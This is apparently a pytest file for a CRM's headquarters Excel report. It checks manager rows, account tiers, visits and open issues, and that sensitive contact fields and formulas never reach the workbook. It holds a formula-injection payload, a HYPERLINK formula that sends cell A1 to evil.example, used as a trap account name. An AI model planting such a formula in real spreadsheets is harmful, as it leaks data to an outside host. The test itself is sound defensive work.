"""The Excel report across managers, from the HQ database: a row per manager, every account
with its manager and tier, the visits and open issues of each manager's accounts, no sensitive
value anywhere, no cell that Excel would run as a formula."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from kamdesk.hq.consolidate import APPLIED, consolidate
from kamdesk.hq.database import HqDatabase
from kamdesk.hq.report import write_hq_report
from kamdesk.services.workbench import Workbench

MARKER = "机密标记Z9"
TRAP = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
TODAY = date(2026, 11, 23)


def portfolio(wb: Workbench, names: list[str], *, key: int = 0) -> list[str]:
    """Accounts with last year's figures, a visit this year each and `key` key accounts."""
    ids = []
    for number, name in enumerate(names):
        key_account = {"is_key_account": True, "key_account_reason": "战略客户"}
        account = wb.accounts.create(
            name=name, city="苏州", owner="李静", **(key_account if number < key else {})
        )
        wb.years.create(
            account_id=account.id, year=2025, revenue=10_000_000, gross_profit=(9 - number) * 10**6
        )
        wb.visits.create(account_id=account.id, occurred_at="2026-03-05 14:30", purpose="季度回访")
        ids.append(account.id)
    return ids


def test_the_report_has_a_row_per_manager_and_each_account_under_its_manager(
    field: dict[str, Workbench], hq: HqDatabase, tmp_path: Path
) -> None:
    a, b = field["a"], field["b"]
    portfolio(a, [f"苏州客户{n}" for n in range(6)], key=5)
    (account,) = portfolio(b, ["无锡大东纺织有限公司"], key=1)
    boss = b.contacts.create(account_id=account, name="周建国", title="董事长")
    b.issues.create(
        account_id=account,
        contact_id=boss.id,
        description="设备停机",
        raised_on="2026-11-01",
        severity="critical",
    )
    for name, bench in field.items():
        bench.sync.export("hq", tmp_path / f"{name}.kamx")
    outcomes = consolidate(hq, [tmp_path / f"{n}.kamx" for n in field])
    assert [o.status for o in outcomes] == [APPLIED] * 3
    summary = write_hq_report(hq, tmp_path / "总部报告.xlsx", 2026, today=TODAY)
    assert (summary.managers, summary.accounts, summary.visits, summary.open_issues) == (3, 7, 7, 1)
    book = load_workbook(summary.path)
    assert book.sheetnames == ["Managers", "Accounts", "Visits 2026", "Open issues"]
    managers = {row[0]: row for row in book["Managers"].iter_rows(min_row=2, values_only=True)}
    assert set(managers) == {"王经理", "李经理", "张经理"}
    assert managers["王经理"][2:5] == (6, 5, "within the range")
    assert managers["李经理"][2:5] == (1, 1, "too few")
    assert managers["张经理"][2:5] == (0, 0, "too few")
    assert managers["王经理"][8] == 6  # visits in 2026
    accounts = list(book["Accounts"].iter_rows(min_row=2, values_only=True))
    assert {(row[0], row[1]) for row in accounts} >= {
        ("李经理", "无锡大东纺织有限公司"),
        ("王经理", "苏州客户0"),
    }
    tiers = {row[1]: row[2] for row in accounts}  # each manager's accounts ranked apart
    assert [tiers[f"苏州客户{n}"] for n in range(6)] == ["A"] * 5 + ["B"]
    assert tiers["无锡大东纺织有限公司"] == "A"
    (issue,) = book["Open issues"].iter_rows(min_row=2, values_only=True)
    assert issue[:2] == ("李经理", "无锡大东纺织有限公司")


def test_no_sensitive_value_reaches_the_report_and_no_cell_is_a_formula(
    field: dict[str, Workbench], hq: HqDatabase, tmp_path: Path
) -> None:
    a = field["a"]
    (account,) = portfolio(a, [TRAP])
    contact = a.contacts.create(
        account_id=account,
        name="@王建国",
        title="-总经理",
        health_notes=MARKER,
        family_members=MARKER,
        income_range=MARKER,
    )
    a.anniversaries.create(
        account_id=account, contact_id=contact.id, kind="birthday", month=6, day=1, note=MARKER
    )
    a.visits.log(account, [contact.id], occurred_at="2026-03-06 10:00", purpose="+1 拜访")
    a.sync.export("hq", tmp_path / "all.kamx", include_sensitive=True)  # HQ holds them
    assert consolidate(hq, [tmp_path / "all.kamx"])[0].status == APPLIED
    path = write_hq_report(hq, tmp_path / "r.xlsx", 2026, today=TODAY).path
    with zipfile.ZipFile(path) as package:
        everything = "".join(package.read(n).decode("utf-8") for n in package.namelist())
    assert MARKER not in everything
    assert "<f>" not in everything and "<f " not in everything
    seen = {}
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    seen[cell.value] = cell
    for text in (TRAP, "@王建国", "+1 拜访"):
        assert seen[text].data_type == "s" and seen[text].quotePrefix, text
